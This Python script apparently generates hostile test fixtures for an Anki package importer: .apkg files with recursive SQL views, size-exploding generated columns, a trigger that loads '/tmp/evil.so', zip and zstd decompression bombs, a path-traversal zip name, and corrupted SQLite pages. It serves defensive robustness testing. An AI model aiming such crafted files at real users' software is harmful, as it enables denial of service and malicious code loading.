#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Writes files of words that a stranger could send to do harm: tables, JSON and packages of other kinds than make_hostile.py has.

    files.py FOLDER [--large | --kept]

expected.json says of each whether it has to be refused, has to be imported, or may be either: what matters everywhere is one sentence,
30 seconds, a gigabyte, and a store that works afterwards, for which Tests/Hostile/run looks. With --kept, only files are written that
are small enough for the repository: Tests/Fixtures/anki/hostile-files is made so. Needs the command `zstd` and Python's sqlite3.
"""
import bz2
import gzip
import io
import json
import lzma
import os
import random
import sqlite3
import struct
import sys
import tarfile
import tempfile
import zipfile
import zlib

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "Fixtures", "anki"))
from packages import *

out, large, kept = sys.argv[1], "--large" in sys.argv, "--kept" in sys.argv
os.makedirs(out, exist_ok=True)
expected = {}


def add(name, data, expect="either"):
    if kept and len(data) > 6_000:
        return
    with open(os.path.join(out, name), "wb") as file:
        for piece in ([data] if isinstance(data, (bytes, bytearray)) else data):
            file.write(piece)
    assert name not in expected, name
    expected[name] = expect


def refused(name, data):
    add(name, data, "refused")


def imported(name, data):
    add(name, data, "imported")


base, base18 = database(), database(new=True)
rng = random.Random(22)
endless = "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r)"


def run(sql, *values):
    return lambda db: db.execute(sql, values)


def schema(*statements):
    def change(db):
        db.execute("PRAGMA writable_schema = ON")
        for sql in statements:
            db.execute(sql)
    return change


def fields(first, second=""):
    """A package whose notes have these fields."""
    return old(database(run("UPDATE notes SET flds = ?", first + "\x1f" + second)))


# --- databases that compute -----------------------------------------------------------------------------------------------
for table in ("notetypes", "fields", "templates", "decks", "deck_config", "config"):
    columns = {"notetypes": "n AS id, 'a' AS name, x'' AS config", "fields": "1 AS ntid, n AS ord, 'a' AS name",
               "templates": "1 AS ntid, n AS ord, 'a' AS name, x'' AS config", "decks": "n AS id, 'a' AS name, x'' AS kind",
               "deck_config": "n AS id, 'a' AS name, x'' AS config", "config": "'rollover' AS key, x'' AS val"}[table]
    refused(f"view-{table}.apkg", new(database(f"DROP TABLE {table}; CREATE VIEW {table} AS {endless} SELECT {columns} FROM r;", new=True)))
refused("view-mutual.apkg", old(database("CREATE VIEW notes AS SELECT * FROM other; CREATE VIEW other AS SELECT * FROM notes;", skip=("notes",))))
refused("view-instead-of.apkg", old(database(f"CREATE VIEW notes AS {endless} SELECT n AS id FROM r; CREATE TRIGGER t INSTEAD OF INSERT ON notes "
        "BEGIN DELETE FROM cards; END;", skip=("notes",))))
refused("view-cross-join.apkg", old(database("ALTER TABLE notes RENAME TO n; CREATE VIEW notes AS SELECT a.* FROM n a, n b, n c, n d, n e, "
        "n f, n g, n h, n i, n j, n k, n l, n m, n o, n p, n q, n r, n s, n t, n u;")))
refused("view-names-in-capitals.apkg", old(database(f"CREATE VIEW NOTES AS {endless} SELECT n AS id FROM r;", skip=("notes",))))
refused("virtual-fts3.apkg", old(database("CREATE VIRTUAL TABLE cards USING fts3(id, nid, did, ord);", skip=("cards",))))
refused("virtual-rtree.apkg", old(database("CREATE VIRTUAL TABLE revlog USING rtree(id, cid, ease);", skip=("revlog",))))
refused("virtual-unknown-module.apkg", old(database(schema("UPDATE sqlite_schema SET sql = 'CREATE VIRTUAL TABLE notes USING evil(a)', rootpage = 0 "
        "WHERE name = 'notes'"))))
refused("virtual-dbstat.apkg", old(database(schema("UPDATE sqlite_schema SET sql = 'CREATE VIRTUAL TABLE notes USING dbstat(main)', rootpage = 0 "
        "WHERE name = 'notes'"))))
add("virtual-beside.apkg", old(database("CREATE VIRTUAL TABLE other USING fts5(a);")))
add("virtual-shadow-damaged.apkg", old(database("CREATE VIRTUAL TABLE other USING fts5(a); UPDATE other_data SET block = zeroblob(5000);")))
refused("generated-stored.apkg", old(database("CREATE TABLE notes (id integer PRIMARY KEY, guid text, mid integer, mod integer, usn integer, "
        "tags text, flds text GENERATED ALWAYS AS (guid || char(31) || hex(zeroblob(40000000))) VIRTUAL, sfld, csum, flags, data);", skip=("notes",))))
refused("generated-chain.apkg", old(database("CREATE TABLE cards (id integer PRIMARY KEY, nid, did, ord, mod, usn, type, queue, due, ivl, factor, "
        "reps, lapses, left, odue, odid, flags, a text AS (hex(zeroblob(1000))), b AS (a || a || a || a), c AS (b || b || b || b), data AS (c || c || c));",
        skip=("cards",))))
imported("trigger-recursive.apkg", old(database("PRAGMA recursive_triggers = ON; CREATE TRIGGER t AFTER INSERT ON notes BEGIN "
         "INSERT INTO notes SELECT id + 1000, guid, mid, mod, usn, tags, flds, sfld, csum, flags, data FROM notes; END;")))
imported("trigger-unknown-function.apkg", old(database(schema("INSERT INTO sqlite_schema VALUES ('trigger', 'evil', 'notes', 0, "
         "'CREATE TRIGGER evil AFTER INSERT ON notes BEGIN SELECT load_extension(''/tmp/evil.so''); END')"))))
add("trigger-many.apkg", old(database(lambda db: [db.execute(f"CREATE TRIGGER t{i} AFTER INSERT ON notes BEGIN DELETE FROM notes; END")
                                                    for i in range(3000)])))
add("trigger-damaged.apkg", old(database(schema("INSERT INTO sqlite_schema VALUES ('trigger', 'evil', 'notes', 0, 'CREATE TRIGGER (((')"))))
imported("index-expression.apkg", old(database("CREATE INDEX i ON notes (abs(length(flds)) * 1000 % 7, lower(guid));")))
add("index-unknown-collation.apkg", old(database(schema("INSERT INTO sqlite_schema VALUES ('index', 'i', 'notes', 2, "
    "'CREATE INDEX i ON notes (guid COLLATE evil)')"))))
add("index-unknown-function.apkg", old(database(schema("INSERT INTO sqlite_schema VALUES ('index', 'i', 'notes', 2, "
    "'CREATE INDEX i ON notes (evil(guid))')"))))
add("index-on-page-of-table.apkg", old(database(schema("INSERT INTO sqlite_schema SELECT 'index', 'i', 'notes', rootpage, "
    "'CREATE INDEX i ON notes (guid)' FROM sqlite_schema WHERE name = 'notes'"))))
add("check-costly.apkg", old(database("CREATE TABLE notes (id integer PRIMARY KEY, guid text, mid integer, mod integer, usn integer, tags text, "
    "flds text CHECK (length(hex(randomblob(1000))) > 5), sfld, csum, flags, data);" + "".join(
    f"INSERT INTO notes VALUES ({i}, 'g{i}', 1, 0, 0, '', 'a' || char(31) || 'b', 0, 0, 0, '');" for i in range(1, 4)), skip=("notes",))))
add("default-costly.apkg", old(database("CREATE TABLE notes (id integer PRIMARY KEY, guid text, mid integer, mod integer, usn integer, tags text);"
    "INSERT INTO notes VALUES (1, 'g', 1, 0, 0, ''); ALTER TABLE notes ADD COLUMN flds text DEFAULT '" + "x" * 200_000 + "';", skip=("notes",), notes=())))
imported("foreign-keys-circular.apkg", old(database("CREATE TABLE a (x PRIMARY KEY REFERENCES b (y)); CREATE TABLE b (y PRIMARY KEY REFERENCES a (x));")))
add("stat1-nonsense.apkg", old(database("CREATE INDEX i ON notes (guid); ANALYZE; UPDATE sqlite_stat1 SET stat = '-9223372036854775809 99999999999999999999 "
    "x' || hex(zeroblob(100000));")))
add("stat4-nonsense.apkg", old(database(schema("CREATE TABLE sqlite_stat4x (tbl, idx, neq, nlt, ndlt, sample)",
    "UPDATE sqlite_schema SET name = 'sqlite_stat4', tbl_name = 'sqlite_stat4', sql = 'CREATE TABLE sqlite_stat4(tbl,idx,neq,nlt,ndlt,sample)' "
    "WHERE name = 'sqlite_stat4x'"))))

# --- tables of other shapes -------------------------------------------------------------------------------------------------
for table in ("notes", "cards", "revlog"):
    columns = TABLES[table].replace("id integer PRIMARY KEY", "id integer NOT NULL PRIMARY KEY")
    imported(f"without-rowid-{table}.apkg", old(database(f"ALTER TABLE {table} RENAME TO o; CREATE TABLE {table} ({columns}) WITHOUT ROWID; "
             f"INSERT INTO {table} SELECT * FROM o; DROP TABLE o;")))
imported("strict-tables.apkg", old(database("ALTER TABLE notes RENAME TO o; CREATE TABLE notes (id INTEGER PRIMARY KEY, guid TEXT, mid INTEGER, mod INTEGER, "
         "usn INTEGER, tags TEXT, flds TEXT, sfld ANY, csum ANY, flags ANY, data ANY) STRICT; INSERT INTO notes SELECT * FROM o; DROP TABLE o;")))
imported("columns-in-another-order.apkg", old(database("ALTER TABLE notes RENAME TO o; CREATE TABLE notes (flds, tags, mod, mid, guid, id, x, y); INSERT INTO notes "
         "SELECT flds, tags, mod, mid, guid, id, 1, 2 FROM o; DROP TABLE o;")))
imported("ids-twice.apkg", old(database("ALTER TABLE notes RENAME TO o; CREATE TABLE notes (id, guid, mid, mod, usn, tags, flds, sfld, csum, flags, data); "
         "INSERT INTO notes SELECT * FROM o; INSERT INTO notes SELECT * FROM o; DROP TABLE o;")))
imported("review-ids-twice-apart.apkg", old(database("DROP TABLE revlog; CREATE TABLE revlog (id, cid, usn, ease, ivl, lastIvl, factor, time, type); "
         + "".join(f"INSERT INTO revlog VALUES ({1700000000000 + i % 3}, {11 + i % 3}, 0, 3, 1, 1, 0, 9, 1);" for i in (0, 2, 1, 0, 1, 2, 0)))))
imported("columns-many.apkg", old(database(lambda db: [db.execute(f"ALTER TABLE notes ADD COLUMN c{i}") for i in range(150)])))
add("columns-too-many.apkg", old(database(lambda db: [db.execute(f"ALTER TABLE notes ADD COLUMN c{i}") for i in range(400)])))
refused("table-is-index.apkg", old(database("CREATE TABLE o (a); CREATE INDEX revlog ON o (a);", skip=("revlog",))))
imported("no-rows.apkg", old(database("DELETE FROM notes; DELETE FROM cards; DELETE FROM revlog;")))
imported("same-guid.apkg", old(database("UPDATE notes SET guid = 'same';")))
imported("guids-odd.apkg", old(database(lambda db: [db.execute("UPDATE notes SET guid = ? WHERE id = ?", (g, i + 1))
         for i, g in enumerate(["", "x" * 100000, "a\nb\0c"])])))
imported("deck-cycle-in-names.apkg", old(database(run("UPDATE col SET decks = ?", json.dumps({**DECKS, **{str(i): {"name": "A::B::A::B" + "::A" * i}
         for i in range(6, 60)}})))))
imported("notetype-long-names.apkg", old(database(run("UPDATE col SET models = ?", json.dumps({"1": {**MODELS["1"], "name": "N" * 500_000,
         "flds": [{"name": "F" * 500_000, "ord": 0}, {"name": "G" * 500_000, "ord": 1}]}})))))
refused("notetype-many-fields.apkg", old(database(run("UPDATE col SET models = ?", json.dumps({"1": {**MODELS["1"],
        "flds": [{"name": f"f{i}"} for i in range(60_000)]}})))))
refused("decks-many.apkg", old(database(run("UPDATE col SET decks = ?", json.dumps({str(i): {"name": "::".join(f"d{i}-{j}" for j in range(6))}
        for i in range(1, 12_000)})))))
imported("deck-names-alike.apkg", old(database(run("UPDATE col SET decks = ?", json.dumps({str(i): {"name": n} for i, n in enumerate(
         ["Default", "default", "DEFAULT", "Default ", "\u0130", "i\u0307", "caf\u00e9", "cafe\u0301", "a::", "::a", "::", "\u202e\u200b", "\ud83d\ude00"])})))))
imported("models-duplicate-ids.apkg", old(database(run("UPDATE col SET models = ?", '{"1":%s,"01":%s,"+1":%s}' % ((json.dumps(MODELS["1"]),) * 3)))))
imported("models-keys-twice.apkg", old(database(run("UPDATE col SET models = ?", '{"1":%s,"1":%s}' % ((json.dumps(MODELS["1"]),) * 2)))))
for label, text in (("surrogate", '{"1":{"name":"\\ud800"}}'), ("number", '{"1":{"name":1e999999}}'), ("digits", '{"1":{"id":' + "9" * 100000 + "}}"),
                    ("cut", '{"1":{"name":"a'), ("comment", '{/* */}'), ("single-quotes", "{'1':{}}"), ("nan", '{"1":NaN}')):
    refused(f"decks-json-{label}.apkg", old(database(run("UPDATE col SET decks = ?", text))))
imported("options-out-of-range.apkg", old(database(run("UPDATE col SET dconf = ?", json.dumps({"1": {"id": 1, "name": "x", "new": {"delays": [0, -1, 1e300,
         0.00001] * 50, "perDay": -(1 << 62)}, "rev": {"perDay": 1 << 62, "maxIvl": -5}, "lapse": {"delays": [], "leechFails": -1, "leechAction": 99},
         "desiredRetention": 17, "fsrsParams6": [1e300] * 21}})))))

# --- numbers ------------------------------------------------------------------------------------------------------------------
for column, values in {"due": (10 ** 18, -10 ** 18, -1), "ivl": (1 << 62, -(1 << 62), -1), "odue": (10 ** 18, -1), "left": (-1, 1 << 62, 999_999),
                       "reps": (-1, 1 << 62), "lapses": (-1, 1 << 62), "flags": (-1, 1 << 62), "ord": (499, 500, 1 << 31), "odid": (5, 1 << 62)}.items():
    def change(db, column=column, values=values):
        for i, value in enumerate(values):
            db.execute(f"UPDATE cards SET {column} = ? WHERE id = ?", (value, 11 + i))
    imported(f"numbers-{column}.apkg", old(database(change)))
imported("numbers-learning-far.apkg", old(database("UPDATE cards SET type = 1, queue = 1, due = 4000000000000, left = 2001;")))
imported("numbers-relearning-negative.apkg", old(database("UPDATE cards SET type = 3, queue = 3, due = -4000000000, ivl = -700, left = -3;")))
imported("numbers-reals.apkg", old(database("UPDATE cards SET due = 1e17, ivl = 3.999999, factor = -0.0, reps = 1e-300; UPDATE notes SET mod = 1.5e9;")))
imported("numbers-nan.apkg", old(database("UPDATE cards SET due = 0.0 * 9e999, ivl = 9e999 - 9e999; UPDATE revlog SET time = 9e999 - 9e999;")))
imported("numbers-times-before-1970.apkg", old(database("UPDATE notes SET id = -id, mod = -1; UPDATE cards SET nid = -nid, mod = -1; UPDATE revlog SET id = -id;")))
imported("numbers-reviews-extreme.apkg", old(database("UPDATE revlog SET ivl = 9223372036854775807, lastIvl = -9223372036854775808, factor = -1, time = -1, ease = 4, type = 5;")))
imported("numbers-reviews-future.apkg", old(database("UPDATE revlog SET id = 253402300799990 + cid - 11;")))
imported("numbers-reviews-first-moment.apkg", old(database("UPDATE revlog SET id = cid - 10;")))
imported("numbers-memory-odd.apkg", old(database(lambda db: [db.execute("UPDATE cards SET data = ? WHERE id = ?", (d, i + 11)) for i, d in enumerate(
         ['{"s":1e-300,"d":10}', '{"s":999999,"d":1,"dr":0,"decay":1e-9,"lrt":9223372036854775807}', '{"s":"1","d":[],"pos":{}}'])])))
imported("numbers-memory-no-json.apkg", old(database(lambda db: [db.execute("UPDATE cards SET data = ? WHERE id = ?", (d, i + 11)) for i, d in enumerate(
         ["\0" * 100, "{" * 3000, "[" * 4000])])))
imported("numbers-created-first-moment.apkg", old(database("UPDATE col SET crt = 0;")))
imported("numbers-created-future.apkg", old(database("UPDATE col SET crt = 253402300799;")))
imported("types-blobs.apkg", old(database("UPDATE notes SET flds = CAST(flds AS BLOB), tags = CAST(tags AS BLOB), guid = x'00'; UPDATE cards SET data = x'ff';")))
imported("types-texts-for-numbers.apkg", old(database("UPDATE cards SET due = 'soon', ivl = '12abc', type = '2';")))
imported("types-numbers-for-texts.apkg", old(database("UPDATE notes SET flds = 12, guid = 3.5, tags = 7;")))

# --- pages ---------------------------------------------------------------------------------------------------------------------
many = [(i, f"g{i}", 1, 0, 0, "", f"word {i} {'x' * 400}\x1fmeaning", 0, 0, 0, "") for i in range(1, 400)]
for size in (512, 65536):
    imported(f"page-size-{size}.apkg", old(database(before=f"PRAGMA page_size = {size};")))
imported("page-auto-vacuum.apkg", old(database(before="PRAGMA auto_vacuum = FULL;", notes=many)))
imported("page-utf-16be.apkg", old(database(before="PRAGMA encoding = 'UTF-16be';")))


def patch(at, data):
    return lambda d: bytes(d[:at]) + data + bytes(d[at + len(data):])


def pages(mark, edit):
    """Changes each page of a kind."""
    def change(d):
        size = struct.unpack(">H", d[16:18])[0]
        for start in range(size, len(d), size):
            if d[start] == mark:
                edit(d, start, size)
        return bytes(d)
    return change


free = "CREATE TABLE junk (a); " + "".join(f"INSERT INTO junk VALUES (zeroblob(3000));" for _ in range(40)) + "DROP TABLE junk;"
imported("freelist-count.apkg", old(database(free, bytes_=patch(36, b"\x7f\xff\xff\xff"))))
imported("freelist-loop.apkg", old(database(free, bytes_=lambda d: patch((struct.unpack(">I", d[32:36])[0] - 1) * 4096, bytes(d[32:36]))(d))))
imported("freelist-beyond.apkg", old(database(free, bytes_=patch(32, b"\x0f\xff\xff\xff"))))
add("header-page-size-odd.apkg", old(database(bytes_=patch(16, b"\x0f\xff"))))
add("header-reserved.apkg", old(database(bytes_=patch(20, b"\xff"))))
add("header-fractions.apkg", old(database(bytes_=patch(21, b"\xff\xff\xff"))))
add("header-schema-format.apkg", old(database(bytes_=patch(44, b"\x00\x00\x00\x63"))))
add("header-encoding.apkg", old(database(bytes_=patch(56, b"\x00\x00\x00\x07"))))
add("header-vacuum-root.apkg", old(database(bytes_=patch(52, b"\x00\x0f\x00\x00"))))
add("header-versions.apkg", old(database(bytes_=patch(18, b"\x03\x03"))))
add("header-page-count-zero.apkg", old(database(bytes_=patch(28, b"\0\0\0\0"))))
add("file-not-whole-pages.apkg", old(base + b"x" * 1000))
add("file-first-page-only.apkg", old(base[:4096]))
add("file-header-only.apkg", old(base[:100]))
add("leaf-cells-beyond.apkg", old(database(notes=many, bytes_=pages(13, lambda d, s, n: d.__setitem__(slice(s + 8, s + 10), b"\xff\xff")))))
add("leaf-cells-same.apkg", old(database(notes=many, bytes_=pages(13, lambda d, s, n: d.__setitem__(slice(s + 10, s + 12), bytes(d[s + 8:s + 10]))))))
add("leaf-count.apkg", old(database(notes=many, bytes_=pages(13, lambda d, s, n: d.__setitem__(slice(s + 3, s + 5), b"\xff\xff")))))
add("leaf-payload-huge.apkg", old(database(notes=many, bytes_=pages(13, lambda d, s, n: d.__setitem__(
    slice(s + struct.unpack(">H", d[s + 8:s + 10])[0], s + struct.unpack(">H", d[s + 8:s + 10])[0] + 5), b"\x87\xff\xff\xff\x7f")))))
add("leaf-serial-types.apkg", old(database(notes=many, bytes_=pages(13, lambda d, s, n: d.__setitem__(
    slice(s + struct.unpack(">H", d[s + 8:s + 10])[0] + 3, s + struct.unpack(">H", d[s + 8:s + 10])[0] + 9), b"\x7f\x0a\x0b\x0a\x0b\x0a")))))
add("leaf-free-block-loop.apkg", old(database(notes=many, bytes_=pages(13, lambda d, s, n: d.__setitem__(slice(s + 1, s + 3), b"\x00\x08")))))
add("inner-right-child-beyond.apkg", old(database(notes=many, bytes_=pages(5, lambda d, s, n: d.__setitem__(slice(s + 8, s + 12), b"\x7f\xff\xff\xff")))))
add("inner-right-child-schema.apkg", old(database(notes=many, bytes_=pages(5, lambda d, s, n: d.__setitem__(slice(s + 8, s + 12), b"\x00\x00\x00\x01")))))
add("inner-keys-unordered.apkg", old(database(notes=many, bytes_=pages(5, lambda d, s, n: d.__setitem__(slice(s + 12, s + 14), bytes(d[s + 14:s + 16]))))))
long = [(1, "g1", 1, 0, 0, "", "x" * 60000 + "\x1fb", 0, 0, 0, "")]


def overflow(edit):
    """Changes the chain of pages that the one long row lies in."""
    def change(d):
        for start in range(4096, len(d), 4096):
            if d[start] == 13 and struct.unpack(">H", d[start + 3:start + 5])[0] == 1:
                cell = start + struct.unpack(">H", d[start + 8:start + 10])[0]
                for at in range(cell, start + 4093):
                    page = struct.unpack(">I", d[at:at + 4])[0]
                    if at == start + 4092 and 1 < page <= len(d) // 4096:
                        edit(d, at, page)
        return bytes(d)
    return change


add("overflow-loop.apkg", old(database(notes=long, cards=[], reviews=[], bytes_=overflow(lambda d, at, p: d.__setitem__(
    slice((p - 1) * 4096, (p - 1) * 4096 + 4), struct.pack(">I", p))))))
add("overflow-beyond.apkg", old(database(notes=long, cards=[], reviews=[], bytes_=overflow(lambda d, at, p: d.__setitem__(slice(at, at + 4), b"\x7f\0\0\0")))))
add("overflow-cut.apkg", old(database(notes=long, cards=[], reviews=[], bytes_=overflow(lambda d, at, p: d.__setitem__(slice(at, at + 4), b"\0\0\0\0")))))
for seed in range(8):
    def flip(d, seed=seed):
        r = random.Random(1000 + seed)
        for _ in range(30 + 60 * (seed % 4)):
            d[r.randrange(100, len(d))] ^= 1 << r.randrange(8)
        return bytes(d)
    add(f"bits-flipped-{seed}.apkg", old(database(notes=many[:120], bytes_=flip)))
for seed in range(4):
    def flip(d, seed=seed):
        r = random.Random(2000 + seed)
        for _ in range(80):
            d[r.randrange(100, len(d))] ^= 1 << r.randrange(8)
        return bytes(d)
    add(f"bits-flipped-new-{seed}.apkg", new(database(notes=many[:120], new=True, bytes_=flip)))
for share in (1, 10, 50, 90, 99):
    add(f"database-cut-{share}.apkg", old(database(notes=many[:200])[:max(1, len(database(notes=many[:200])) * share // 100)]))

# --- the archive ---------------------------------------------------------------------------------------------------------------
collection, media = entry("collection.anki21", base), entry("media", b"{}")
whole = pack([collection, media])
for name, data in (("png", b"\x89PNG\r\n\x1a\n" + bytes(300)), ("elf", b"\x7fELF\2\1\1" + bytes(300)), ("html", b"<!doctype html><title>404</title>"), ("gzip", gzip.compress(whole, mtime=0)),
                   ("bzip2", bz2.compress(whole)), ("xz", lzma.compress(whole)), ("rar", b"Rar!\x1a\x07\x01\x00" + bytes(300)), ("7z", b"7z\xbc\xaf\x27\x1c" + bytes(300)),
                   ("pdf", b"%PDF-1.7\n" + bytes(300)), ("sqlite", base), ("zstd", zstd(whole)), ("one-byte", b"P"), ("marks-only", b"PK\x05\x06" * 2000)):
    refused(f"kind-{name}.apkg", data)
tar = io.BytesIO()
with tarfile.open(fileobj=tar, mode="w") as archive:
    info = tarfile.TarInfo("collection.anki2")
    info.size = len(base)
    archive.addfile(info, io.BytesIO(base))
refused("kind-tar.apkg", tar.getvalue())
refused("package-in-package.apkg", pack([entry("inner.apkg", whole), media]))
refused("package-as-database.apkg", pack([entry("collection.anki21", whole), media]))
nested = whole
for _ in range(30):
    nested = pack([entry("collection.anki21", nested), media])
refused("package-in-package-30.apkg", nested)
imported("named-colpkg.colpkg", whole)
for number, name in enumerate(("COLLECTION.ANKI21", "./collection.anki21", "collection.anki21/", "/collection.anki21", "collection.anki21 ", "x/collection.anki21", "collection.anki21\\")):
    refused(f"zip-named-otherwise-{number}.apkg", pack([entry(name, base), media]))
refused("zip-end-in-comment.apkg", pack([entry("a.txt", b"x")], comment=whole[-200:]))
add("zip-comment-long.apkg", pack([collection, media], comment=b"x" * 65535))
refused("zip-comment-short.apkg", whole[:-2] + struct.pack("<H", 500))
refused("zip-comment-with-end.apkg", pack([collection, media], comment=b"PK\x05\x06" + bytes(18)))
refused("zip-local-in-local.apkg", pack([entry("collection.anki21", base, local_extra=whole[:4000])]) [:-30])
add("zip-data-descriptor.apkg", pack([entry("collection.anki21", base, flags=8), media]))
add("zip-extra-nonsense.apkg", pack([entry("collection.anki21", base, extra=b"\x01\x00\xff\xff" + b"x" * 20), media]))
add("zip-extra-unicode-path.apkg", pack([entry("collection.anki21", base, extra=struct.pack("<HHBI", 0x7075, 5 + 12, 1, zlib.crc32(b"collection.anki21")) + b"../../../evil"[:12]), media]))
refused("zip-extra-64-smaller.apkg", pack([entry("collection.anki21", base, unpacked=0xFFFFFFFF, extra=struct.pack("<HHQ", 1, 8, 10)), media]))
refused("zip-extra-64-negative.apkg", pack([entry("collection.anki21", base, packed=0xFFFFFFFF, unpacked=0xFFFFFFFF, extra=struct.pack("<HHqq", 1, 16, -1, -1)), media]))
add("zip-extra-64-twice.apkg", pack([entry("collection.anki21", base, extra=struct.pack("<HHQQ", 1, 16, 5, 5) + struct.pack("<HHQQ", 1, 16, len(base), 9)), media]))
for method in (1, 6, 9, 12, 93, 95, 98):
    refused(f"zip-method-{method}.apkg", pack([entry("collection.anki21", base, method=method, body=collection["body"]), media]))
refused("zip-aes.apkg", pack([entry("collection.anki21", base, method=99, flags=1, extra=struct.pack("<HHHHBH", 0x9901, 7, 2, 0x4541, 3, 8), body=collection["body"]), media]))
for mode in (0o060644, 0o020644, 0o010644, 0o140644, 0o040755):
    add(f"zip-mode-{mode:o}.apkg", pack([entry("collection.anki21", base, attributes=mode << 16), media]))
add("zip-local-longer-name.apkg", pack([entry("collection.anki21", base, local_name=b"collection.anki21" * 3000), media]))
refused("zip-media-is-folder.apkg", pack([collection, entry("media/", b"")])[:-22] + b"PK\x05\x06" + bytes(18))
add("zip-media-empty.apkg", pack([collection, entry("media", b"")]))
refused("zip-name-long.apkg", pack([collection, media, entry(b"n" * 65535, b"x")]))
imported("zip-names-unicode.apkg", pack([collection, media, entry("\u202egpj.exe", b"x", flags=0x800), entry(b"\xff\xfe\xc0\xaf", b"x", flags=0x800)]))
imported("zip-names-by-case.apkg", pack([collection, media, entry("MEDIA", b"{"), entry("Collection.anki21", b"x")]))
deflate_bomb = zlib.compressobj(9, zlib.DEFLATED, -15)
empties = b"\x00\x00\x00\xff\xff" * 40_000
add("zip-deflate-empty-blocks.apkg", pack([entry("collection.anki21", base, body=empties + collection["body"]), media]))
for share in (5, 25, 60, 95):
    refused(f"zip-cut-{share}.apkg", whole[:len(whole) * share // 100])
for seed in range(6):
    r, data = random.Random(3000 + seed), bytearray(whole)
    for _ in range(20):
        data[r.randrange(len(data))] ^= 1 << r.randrange(8)
    add(f"zip-bits-flipped-{seed}.apkg", bytes(data))
old_style = pack([entry("collection.anki2", base), entry("collection.anki2", database("DELETE FROM notes;")), media])
refused("zip-collection-anki2-twice.apkg", old_style)
imported("zip-three-collections.apkg", pack([entry("collection.anki2", b"not read"), entry("collection.anki21", base), media]))
refused("zip-new-one-damaged.apkg", pack([entry("collection.anki21b", b"not read"), entry("collection.anki21", base), media]))

# --- Zstandard ---------------------------------------------------------------------------------------------------------------------
packed = zstd(base18)
raw = lambda data, last=True: struct.pack("<I", len(data) << 3 | last)[:3] + data
rle = lambda byte, count, last=False: struct.pack("<I", count << 3 | 2 | last)[:3] + byte
frame = b"\x28\xb5\x2f\xfd"
imported("zstd-frames-joined.apkg", new(base18, packed=zstd(base18[:5000]) + zstd(base18[5000:])))
imported("zstd-skippable-between.apkg", new(base18, packed=zstd(base18[:5000]) + b"\x5f\x2a\x4d\x18\x08\0\0\0PK\x03\x04abcd" + zstd(base18[5000:])))
refused("zstd-skippable-huge.apkg", new(base18, packed=b"\x50\x2a\x4d\x18\xff\xff\xff\xff" + packed))
imported("zstd-skippable-many.apkg", new(base18, packed=b"\x50\x2a\x4d\x18\0\0\0\0" * 50_000 + packed))
for power in (27, 28, 31, 41):
    add(f"zstd-window-{power}.apkg", new(base18, packed=frame + b"\x00" + bytes([(power - 10) << 3]) + rle(b"A", 1 << 17, True)))
refused("zstd-block-reserved.apkg", new(base18, packed=frame + b"\x00\x50" + struct.pack("<I", 5 << 3 | 6 | 1)[:3]))
refused("zstd-block-too-large.apkg", new(base18, packed=frame + b"\x00\x50" + rle(b"A", (1 << 21) - 1, True)))
refused("zstd-rle-bomb.apkg", new(base18, packed=frame + b"\x00\x50" + rle(b"\0", 1 << 17) * 10_000 + rle(b"\0", 1, True)))
add("zstd-blocks-empty.apkg", new(base18, packed=frame + b"\x00\x50" + raw(b"", False) * 100_000 + raw(b"", True) + packed))
refused("zstd-fse-noise.apkg", new(base18, packed=packed[:20] + rng.randbytes(200) + packed[220:]))
for old_version in (0x1E, 0x22, 0x23, 0x24, 0x25, 0x26, 0x27):
    refused(f"zstd-version-{old_version:x}.apkg", new(base18, packed=bytes([old_version]) + b"\xb5\x2f\xfd" + packed[4:]))
for share in (1, 20, 60, 99):
    refused(f"zstd-cut-{share}.apkg", new(base18, packed=packed[:max(1, len(packed) * share // 100)]))
refused("zstd-checksum-missing.apkg", new(base18, packed=zstd(base18, "--check")[:-4]))
refused("zstd-size-wrong.apkg", new(base18, packed=frame + b"\xa0" + struct.pack("<I", 77) + raw(b"abc")))
refused("zstd-media-list-bomb.apkg", pack([entry("meta", b"\x08\x03", method=0), entry("collection.anki21b", packed, method=0),
        entry("media", frame + b"\x00\x50" + rle(b"\0", 1 << 17) * 1_000 + rle(b"\0", 1, True), method=0)]))
imported("zstd-media-window.apkg", new(base18, b"".join(media_entry(f"{i}.png", b"A" * 1000) for i in range(20)),
         [entry(str(i), frame + b"\x00" + bytes([17 << 3]) + rle(b"A", 1000, True), method=0) for i in range(20)]))

# --- Protocol Buffers -----------------------------------------------------------------------------------------------------------------
deep = b""
for _ in range(5_000):
    deep = field(1, deep)
sets = {
    "deep": deep, "overlong": b"\x88\x80\x80\x80\x80\x80\x80\x80\x80\x00\x01", "overlong-length": b"\x0a\x83\x80\x80\x80\x80\x80\x80\x80\x80\x00abc",
    "eleven-bytes": b"\x08" + b"\x80" * 10 + b"\x01", "field-zero": b"\x00\x01", "field-huge": b"\xf8\xff\xff\xff\xff\x07\x01",
    "wire-3": b"\x0b", "wire-4": b"\x0c", "wire-6": b"\x0e", "wire-7": b"\x0f", "fixed64": b"\x09" + b"\xff" * 8, "fixed64-cut": b"\x09\xff\xff",
    "fixed32-cut": b"\x0d\xff", "length-negative": b"\x0a\xff\xff\xff\xff\xff\xff\xff\xff\xff\x01", "length-max": b"\x0a\xff\xff\xff\xff\x07",
    "same-field": b"\x08\x01" * 50_000, "unknown-fields": b"".join(varint(i << 3) + b"\x01" for i in range(100, 20_000)), "zeros": b"\0" * 5_000,
    "floats-odd": field(1, b"\1\2\3\4\5"), "floats-many": field(1, struct.pack("<f", 1) * 100_000) + field(6, struct.pack("<f", float("nan")) * 21),
    "wrong-types": b"\x0d\0\0\x80\x3f\x12\x02ab\x1d\0\0\0\0\x20\x01", "text-no-unicode": field(3, b"\xff\xfe\xc0\xaf") + field(4, b"\xed\xa0\x80"),
}
for label, data in sets.items():
    table, column = (("deck_config", "config") if "floats" in label else ("notetypes", "config"))
    add(f"protobuf-{label}.apkg", new(database(run(f"UPDATE {table} SET {column} = ?", data), new=True)))
    add(f"protobuf-deck-{label}.apkg", new(database(run("UPDATE decks SET kind = ?", field(1, data)), new=True)))
    add(f"protobuf-media-{label}.apkg", new(base18, field(1, data)))
    add(f"protobuf-meta-{label}.apkg", new(base18, meta=data[:1000]))
imported("protobuf-deck-name-parts.apkg", new(database(run("UPDATE decks SET name = ? WHERE id = 5", "a\x1f" * 20_000), new=True)))
imported("protobuf-template-long.apkg", new(database(run("UPDATE templates SET config = ?", field(1, b"{{Front}}" * 100_000)), new=True)))

